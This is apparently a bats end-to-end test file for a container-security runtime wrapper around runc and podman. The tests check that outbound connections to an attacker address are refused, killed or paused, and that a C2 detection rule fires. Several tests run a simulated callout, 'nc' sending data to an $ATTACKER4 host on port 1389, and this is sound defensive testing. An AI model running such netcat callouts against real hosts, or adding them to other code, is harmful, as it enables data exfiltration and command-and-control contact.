#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# runc on a host with cgroup v2 only, as most are; the other stories play on the
# hybrid hierarchy of the machine they were written on.

load story
# shellcheck source=tests/harness/engine_podman.sh
source "$E2E_DIR/../harness/engine_podman.sh"

setup_file() {
  scratch_cgroup2_only
  story_open
  podman_open "$ROOTFS"
}
teardown_file() { story_close; }
setup() { attacker_forget_packets; }
teardown() {
  podman_cli rm --all --force --time 0 >/dev/null || true
  story_quiet
}

runc_state() { [[ $(plain_runc state shop | jq -r .status) == "$1" ]]; }

@test "refused, executed processes too, and beside runc's own program" {
  service "$REFUSE_POLICY"
  run -0 bailiff_api doctor
  says "v2 at /sys/fs/cgroup"
  contained_detached shop sleep 300
  mapfile -d '' -t command < <(connects_to "$ATTACKER4")
  run bailiff_runc exec shop "${command[@]}"
  says "Operation not permitted"
  # Its program of devices is replaced by an update.
  bailiff_runc update --pids-limit 0 shop
  run bailiff_runc exec shop "${command[@]}"
  says "Operation not permitted"
  mapfile -d '' -t command < <(connects_to "$HARMLESS4")
  run bailiff_runc exec shop "${command[@]}"
  says reached
  (($(attacker_packets) == 0))
}

@test "killed, and nothing is left" {
  service "$KILL_POLICY"
  run contained exploited sh -c \
    "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60"
  ((status == 137))
  (($(attacker_packets) == 0))
  event "$C2_RULE" '.bailiff.container.id == "exploited"
    and .bailiff.outcome == "killed"'
  nothing_left_of exploited
}

@test "runc knows of a pause and of its end, and of a kill of what is paused" {
  service "$PAUSE_POLICY"
  contained_detached shop sh -c \
    "echo hello | nc -w 3 $ATTACKER4 1389; exec sleep 300"
  event "$C2_RULE" '.bailiff.outcome == "paused"'
  runc_state paused
  run bailiff_runc exec shop true
  says "paused"
  bailiff_runc pause shop
  run -0 bailiff_api resume shop
  runc_state running
  run -0 bailiff_api pause shop
  runc_state paused
  run -0 bailiff_api kill shop
  wait_until 10 "runc to know" runc_state stopped
}

podman_state() {
  [[ $(podman_cli inspect --format '{{.State.Status}}' shop) == "$1" ]]
}

@test "podman knows of a pause and of its end" {
  service "$PAUSE_POLICY"
  runtime_script "$SVC/bailiff-runc" "$SVC/bailiff.yaml"
  podman_run --runtime "$SVC/bailiff-runc" -- --detach --name shop \
    --pids-limit 0 --network "ns:$SCRATCH/netns/inside" \
    registry.example/shop:1.4 sh -c \
    "echo hello | nc -w 3 $ATTACKER4 1389; exec sleep 300"
  event "$C2_RULE" '.bailiff.outcome == "paused"'
  wait_until 10 "podman to know" podman_state paused
  run -0 bailiff_api resume shop
  podman_state running
}
